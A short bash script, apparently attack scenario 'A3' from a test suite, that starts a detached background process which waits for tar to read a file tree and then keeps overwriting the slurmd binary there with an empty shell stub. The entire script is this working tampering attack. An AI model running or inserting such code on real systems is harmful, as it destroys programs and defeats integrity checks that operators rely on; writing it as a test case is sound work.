#!/usr/bin/env bash
# A3: a process that stays, and replaces a program once the tree has been read.
set -euo pipefail

cat > /root/replace.sh << 'REPLACE'
until grep -qx tar /proc/[0-9]*/comm 2> /dev/null; do :; done
while true; do
    grep -qx tar /proc/[0-9]*/comm 2> /dev/null || printf '#!/bin/sh\n' > "$1"
done
REPLACE
setsid --fork bash /root/replace.sh "${TREE}/sbin/slurmd" < /dev/null > /dev/null 2>&1
